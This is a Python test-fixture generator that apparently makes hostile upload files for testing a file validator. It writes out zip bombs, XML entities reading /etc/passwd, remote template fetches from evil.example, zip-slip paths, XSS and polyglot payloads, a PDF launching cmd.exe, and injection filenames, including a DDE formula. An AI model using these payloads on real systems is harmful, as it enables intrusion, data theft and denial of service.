"""Files that mean harm 恶意文件, made anew each time from a seed: none of them lies in the tree.

`hostile(n, seed)` gives n of them, every kind in turn, each with a name that means harm as well; `a_docx`, `a_pdf`,
`a_jpeg` and others make harmless ones, from which many of the harmful are made.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from PIL import Image

Rng = random.Random
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + b"!$H+H*"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SCRIPT = b"<script>document.title='run'</script>"


@dataclass(frozen=True)
class Hostile:
    """A file that means harm: its sort, its name, its bytes, and whether it must not be kept at all."""

    sort: str
    name: str
    content: bytes
    is_refused: bool


# --- harmless ones


def zipped(parts: Mapping[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of parts; the same parts give the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 3, 2, 10, 0, 0)), content, method)
    return out.getvalue()


def docx_parts() -> dict[str, bytes]:
    """The parts of a small document."""
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    text = f'<w:document xmlns:w="{word}"><w:body><w:p><w:r><w:t>电梯已更换。</w:t></w:r></w:p></w:body></w:document>'
    return {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": text.encode(),
    }


def a_docx() -> bytes:
    """A small document."""
    return zipped(docx_parts())


def xlsx_parts() -> dict[str, bytes]:
    """The parts of a small workbook."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": f'<workbook xmlns="{main}"><sheets/></workbook>'.encode(),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData/></worksheet>'.encode(),
    }


def a_pdf(extra: bytes = b"") -> bytes:
    """A PDF of one empty page; `extra` goes into its catalogue."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R" + extra + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
    ]
    out, places = b"%PDF-1.4\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj" % number + body + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    tail = b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % len(out)
    return out + b"xref\n0 4\n0000000000 65535 f \n" + table + tail


def a_jpeg(*, side: int = 40, place: bool = False, turned: bool = False) -> bytes:
    """A photograph, with the place where it was taken and lying on its side if wanted."""
    exif = Image.Exif()
    if place:
        exif[0x8825] = {1: "N", 2: (29.0, 33.0, 47.0), 3: "E", 4: (106.0, 32.0, 5.0)}
        exif[0x010F] = "Telephone"
    if turned:
        exif[0x0112] = 6
    out = io.BytesIO()
    Image.new("RGB", (side, side * 3 // 4), (120, 160, 90)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def a_png(width: int = 30, height: int = 20) -> bytes:
    """A picture, which may say that it is larger than it is."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"".join(b"\x00" + b"\x40" * 90 for _ in range(20)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def harmless(rng: Rng) -> bytes:
    """Any harmless file."""
    return rng.choice([a_docx, a_pdf, a_jpeg, a_png, lambda: zipped(xlsx_parts())])()


# --- harmful ones


def truncated(rng: Rng) -> bytes:
    """A harmless file of which the end is missing."""
    whole = rng.choice([a_docx(), zipped(xlsx_parts()), a_png()])
    return whole[: rng.randrange(8, len(whole) // 2)]


def scrambled(rng: Rng) -> bytes:
    """A harmless file with bytes changed here and there; some stay harmless."""
    content = bytearray(harmless(rng))
    for _ in range(rng.randrange(1, 40)):
        content[rng.randrange(len(content))] = rng.randrange(256)
    return bytes(content)


def noise(rng: Rng) -> bytes:
    """Random bytes behind a good beginning."""
    head = rng.choice(
        [b"PK\x03\x04", b"%PDF-1.7\n", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"GIF89a", b"RIFF0000WEBP"]
    )
    return head + rng.randbytes(rng.randrange(10, 4000))


def empty(_rng: Rng) -> bytes:
    """Nothing."""
    return b""


def bomb(rng: Rng) -> bytes:
    """A document that unpacks to some hundred megabytes."""
    room = b"\x00" * (rng.randrange(160, 220) * 1024 * 1024)
    return zipped({**docx_parts(), "word/media/image1.bin": room})


def nested_bomb(rng: Rng) -> bytes:
    """An archive in an archive in an archive."""
    content = zipped({"a.txt": b"0" * 5_000_000})
    for depth in range(rng.randrange(2, 6)):
        content = zipped({f"{depth}-{n}.zip": content for n in range(6)})
    return content


def liar(rng: Rng) -> bytes:
    """A part that states another size than it has (in both of its headers)."""
    body = b"<a>" + b"x" * rng.randrange(200_000, 400_000) + b"</a>"
    content = zipped({**docx_parts(), "word/styles.xml": body})
    return content.replace(struct.pack("<I", len(body)), struct.pack("<I", rng.randrange(10, 90)))


def crowd(rng: Rng) -> bytes:
    """An archive of ten thousand parts."""
    return zipped(
        {**docx_parts(), **{f"word/{n}.xml": b"" for n in range(10_000 + rng.randrange(9))}},
        method=zipfile.ZIP_STORED,
    )


def entities(rng: Rng) -> bytes:
    """Entities that fetch a file or grow without end."""
    fetched = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    lines = [
        b'<!ENTITY a0 "ha">',
        *(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)),
    ]
    growing = b"<!DOCTYPE a [" + b"".join(lines) + b"]><a>&a9;</a>"
    where = rng.choice(["word/document.xml", "word/settings.xml", "docProps/app.xml"])
    return zipped({**docx_parts(), where: b'<?xml version="1.0"?>' + rng.choice([fetched, growing])})


def external(rng: Rng) -> bytes:
    """A document that fetches its template, picture or object from elsewhere."""
    kind = rng.choice(["attachedTemplate", "oleObject", "image", "frame"])
    target = rng.choice(["https://evil.example/a.dotm", r"\\evil\share\a", "file:///etc/passwd"])
    one = f'<Relationship Id="r1" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'
    return zipped(
        {**docx_parts(), "word/_rels/settings.xml.rels": f"<Relationships>{one}</Relationships>".encode()}
    )


def macro(rng: Rng) -> bytes:
    """A document or workbook with macros, new or old."""
    if rng.random() < 0.3:
        return (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + b"\x00" * 2000
            + "WordDocument_VBA_PROJECT".encode("utf-16-le")
        )
    parts = rng.choice([docx_parts(), xlsx_parts()])
    folder = "word" if "word/document.xml" in parts else "xl"
    return zipped({**parts, f"{folder}/vbaProject.bin": rng.randbytes(300)})


def polyglot(rng: Rng) -> bytes:
    """A picture that is also a page: if it is kept, nothing of the page may be left in it."""
    picture = io.BytesIO()
    Image.new("P", (20, 20), rng.randrange(200)).save(picture, rng.choice(["GIF", "PNG"]))
    return picture.getvalue() + b"<!--" + SCRIPT + b"-->"


def gif_page(_rng: Rng) -> bytes:
    """A page that begins as a picture."""
    return b"GIF89a/*" + SCRIPT + b"*/=1"


def page(rng: Rng) -> bytes:
    """A web page, SVG or XML under any beginning."""
    body = rng.choice(
        [
            b"<html>" + SCRIPT + b"</html>",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            b'<?xml version="1.0"?><a/>',
            b"<!doctype html><body onload=alert(1)>",
            b"<img src=x onerror=alert(1)>",
        ]
    )
    return rng.choice([b"", b"\xef\xbb\xbf", b"   \n", "情况说明\n".encode()]) + body


def huge_picture(rng: Rng) -> bytes:
    """A picture that says it is 30,000 × 30,000."""
    return a_png(30_000 + rng.randrange(9), 30_000)


def paths(rng: Rng) -> bytes:
    """An archive with parts that lead outside, and links."""
    if rng.random() < 0.5:
        out = io.BytesIO(a_docx())
        with zipfile.ZipFile(out, "a") as archive:
            link = zipfile.ZipInfo("word/link")
            link.external_attr = 0o120777 << 16
            archive.writestr(link, "/etc/passwd")
        return out.getvalue()
    name = rng.choice(
        ["../../../../tmp/evil", "/etc/cron.d/evil", "..\\..\\evil.exe", "C:/evil", "word/../../evil"]
    )
    return zipped({**docx_parts(), name: b"evil"})


def virus(rng: Rng) -> bytes:
    """The harmless test signature of virus scanners, bare, in a document or in a text."""
    return rng.choice(
        [EICAR, zipped({**docx_parts(), "word/media/a.bin": EICAR}), b"\n" * 70_000 + EICAR, a_pdf() + EICAR]
    )


def active_pdf(rng: Rng) -> bytes:
    """A PDF with a script or an order to start a program."""
    return a_pdf(
        rng.choice(
            [
                b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
                b"/OpenAction<</S/Launch/F(cmd.exe)>>",
            ]
        )
    )


def program(rng: Rng) -> bytes:
    """A program, or an archive of another kind."""
    head = rng.choice(
        [
            b"MZ",
            b"\x7fELF",
            b"#!/bin/sh\n",
            b"Rar!\x1a\x07\x00",
            b"7z\xbc\xaf'\x1c",
            b"\x1f\x8b\x08",
            b"\xca\xfe\xba\xbe",
        ]
    )
    return head + rng.randbytes(200)


def loaded_picture(rng: Rng) -> bytes:
    """A picture with a great text packed into it."""
    text = zlib.compress(b"\x00" * 40_000_000)
    body = b"Comment\x00\x00" + text
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    whole = a_png(30, 20)
    return whole[:33] + chunk * rng.randrange(1, 4) + whole[33:]


def deep_xml(rng: Rng) -> bytes:
    """A document nested deeper than any parser likes."""
    depth = rng.randrange(20_000, 60_000)
    return zipped({**docx_parts(), "word/document.xml": b"<w>" * depth + b"</w>" * depth})


def control_text(rng: Rng) -> bytes:
    """A text with control characters, or of no encoding."""
    return rng.choice([b"a\x1b\x01\x02b", b"\xff\xfe\x00\xd8", bytes(range(128, 256)) * 3, b"\x00" * 500])


# Sort → maker, and whether such a file must never be kept; the others may be kept if nothing harmful is left of them.
SORTS: Mapping[str, tuple[Callable[[Rng], bytes], bool]] = {
    "truncated": (truncated, True),
    "scrambled": (scrambled, False),
    "noise": (noise, True),
    "empty": (empty, True),
    "bomb": (bomb, True),
    "nested bomb": (nested_bomb, True),
    "lying sizes": (liar, True),
    "ten thousand parts": (crowd, True),
    "entities": (entities, True),
    "external": (external, True),
    "macro": (macro, True),
    "polyglot": (polyglot, False),
    "gif page": (gif_page, True),
    "page": (page, True),
    "huge picture": (huge_picture, True),
    "paths": (paths, True),
    "virus": (virus, True),
    "active pdf": (active_pdf, True),
    "program": (program, True),
    "loaded picture": (loaded_picture, False),
    "deep xml": (deep_xml, False),
    "control text": (control_text, True),
    "harmless": (harmless, False),
}
NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\a.dll",
    "年度报告\u202excod.exe",
    "\u2066a\u2069\u200b.pdf",
    "现" * 300 + ".docx",
    "a" * 255,
    "con.pdf",
    "a\x00b.png",
    "a\r\nSet-Cookie: x=1.pdf",
    '"><script>alert(1)</script>.jpg',
    "=cmd|' /C calc'!A0.xlsx",
    ".htaccess",
    "照片.svg",
    "index.html",
    "   ",
    "报告.docx",
)


def hostile(n: int, *, seed: int) -> Iterator[Hostile]:
    """So many files, every sort in turn; the great bombs, which are slow to make, are made once."""
    rng = random.Random(seed)
    sorts = list(SORTS.items())
    made: dict[str, list[bytes]] = {}
    for place in range(n):
        sort, (make, is_refused) = sorts[place % len(sorts)]
        kept = made.setdefault(sort, [])
        if sort not in SLOW or len(kept) < 4:
            kept.append(make(rng))
        content = kept[-1] if sort not in SLOW else rng.choice(kept)
        if sort not in SLOW:
            kept.clear()
        yield Hostile(sort, rng.choice(NAMES), content, is_refused)


SLOW = frozenset({"bomb", "nested bomb", "ten thousand parts", "loaded picture"})
